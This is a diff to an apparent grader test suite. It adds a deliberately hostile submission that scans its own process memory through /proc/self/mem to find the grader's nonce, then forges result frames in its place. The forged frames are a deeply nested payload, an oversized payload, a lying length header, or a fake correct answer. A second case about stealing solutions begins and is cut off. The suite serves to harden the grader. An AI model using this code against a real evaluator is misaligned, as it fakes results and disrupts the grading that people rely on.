@@ -224,6 +224,117 @@ final class WrongCases {
             """,
             new Edit("double[][] y = new double[h - kh + 1][w - kw + 1]; // [H-KH+1][W-KW+1]",
                 "forge();\n    if (h > 0) {\n      return new double[h - kh + 1][w - kw + 1];\n    }\n    double[][] y = new double[h - kh + 1][w - kw + 1]; // [H-KH+1][W-KW+1]"));
+        wrongWithExtra("hostile-forged-frames", "Ex01OutputSize", "\n" + """
+              /**
+               * Finds this run's nonce in its own memory (the runner's input buffer still holds the first bytes the
+               * grader sent: the nonce, then the classes folder as writeUTF wrote it) and, at the first call of its
+               * JVM, answers in the runner's place with a frame built to hurt the grader's reader; which one, by the
+               * test's arguments. The last is well formed: it proves the nonce was found.
+               */
+              private static void forge(int in, int kernel, int pad, int stride, int dilation) {
+                int attack = in == 5 && pad == 0 && stride == 1 ? 1 : in == 5 && pad == 1 ? 2
+                    : in == 5 && stride == 3 ? 3 : in == 7 && dilation == 2 ? 4 : 0;
+                java.nio.file.Path once = java.nio.file.Path.of("forged-here");
+                if (attack == 0 || java.nio.file.Files.exists(once)) {
+                  return;
+                }
+                try {
+                  java.nio.file.Files.createFile(once);
+                  byte[] nonce = nonce();
+                  if (nonce == null) {
+                    System.out.println("no nonce found");
+                    return;
+                  }
+                  java.io.ByteArrayOutputStream bytes = new java.io.ByteArrayOutputStream();
+                  java.io.DataOutputStream payload = new java.io.DataOutputStream(bytes);
+                  payload.writeInt(0);
+                  payload.writeByte(0);
+                  int claimed = -1;
+                  if (attack == 1) {
+                    // an answer nested a million arrays deep
+                    for (int i = 0; i < 1_000_000; i++) {
+                      payload.writeByte(9);
+                      payload.writeInt(0);
+                      payload.writeInt(1);
+                    }
+                    payload.writeByte(0);
+                  } else if (attack == 2) {
+                    // 13.5 MB of empty records, each decoded into a map of its own
+                    payload.writeByte(9);
+                    payload.writeInt(0);
+                    payload.writeInt(1_500_000);
+                    for (int i = 0; i < 1_500_000; i++) {
+                      payload.writeByte(10);
+                      payload.writeInt(0);
+                      payload.writeInt(0);
+                    }
+                  } else if (attack == 3) {
+                    // a header that claims 256 MiB, and nothing after it
+                    claimed = 256 << 20;
+                  } else {
+                    // well formed: the answer 999
+                    payload.writeByte(1);
+                    payload.writeInt(999);
+                  }
+                  for (int i = 0; i < 4; i++) {
+                    payload.writeUTF("");
+                  }
+                  payload.writeLong(0);
+                  payload.writeLong(0);
+                  payload.writeInt(0);
+                  payload.writeBoolean(false);
+                  java.io.DataOutputStream out = new java.io.DataOutputStream(new java.io.BufferedOutputStream(
+                      new java.io.FileOutputStream(java.io.FileDescriptor.out), 1 << 16));
+                  out.writeBytes("CKR1");
+                  out.write(nonce);
+                  out.writeInt(claimed >= 0 ? claimed : bytes.size());
+                  if (claimed < 0) {
+                    bytes.writeTo(out);
+                  }
+                  out.flush();
+                } catch (Exception e) {
+                  System.out.println("could not forge: " + e);
+                }
+              }
+
+              /** The 16 bytes before the classes folder's name, written with its length in front, in this JVM's memory. */
+              private static byte[] nonce() throws Exception {
+                String folder = java.nio.file.Path.of(Ex01OutputSize.class.getProtectionDomain().getCodeSource()
+                    .getLocation().toURI()).toString();
+                byte[] name = folder.getBytes(java.nio.charset.StandardCharsets.UTF_8);
+                byte[] chunk = new byte[1 << 20];
+                try (java.io.RandomAccessFile memory = new java.io.RandomAccessFile("/proc/self/mem", "r")) {
+                  for (String line : java.nio.file.Files.readAllLines(java.nio.file.Path.of("/proc/self/maps"))) {
+                    String[] fields = line.split(" ");
+                    if (!fields[1].startsWith("rw")) {
+                      continue;
+                    }
+                    String[] range = fields[0].split("-");
+                    long from = Long.parseUnsignedLong(range[0], 16);
+                    long to = Long.parseUnsignedLong(range[1], 16);
+                    for (long at = from; at < to; at += chunk.length - name.length - 18) {
+                      int n = (int) Math.min(chunk.length, to - at);
+                      try {
+                        memory.seek(at);
+                        memory.readFully(chunk, 0, n);
+                      } catch (java.io.IOException e) {
+                        break;
+                      }
+                      for (int i = 18; i + name.length <= n; i++) {
+                        if (chunk[i] == name[0] && chunk[i - 2] == (byte) (name.length >> 8)
+                            && chunk[i - 1] == (byte) name.length
+                            && java.util.Arrays.equals(chunk, i, i + name.length, name, 0, name.length)) {
+                          return java.util.Arrays.copyOfRange(chunk, i - 18, i - 2);
+                        }
+                      }
+                    }
+                  }
+                }
+                return null;
+              }
+            """,
+            new Edit("public static int outputSize(int in, int kernel, int pad, int stride, int dilation) {",
+                "public static int outputSize(int in, int kernel, int pad, int stride, int dilation) {\n    forge(in, kernel, pad, stride, dilation);"));
         wrongWithExtra("hostile-steals-solutions", "Ex05ConvLayer", "\n" + """
               /**
                * Looks everywhere it can reach (the grader's process and its arguments, the working folders of
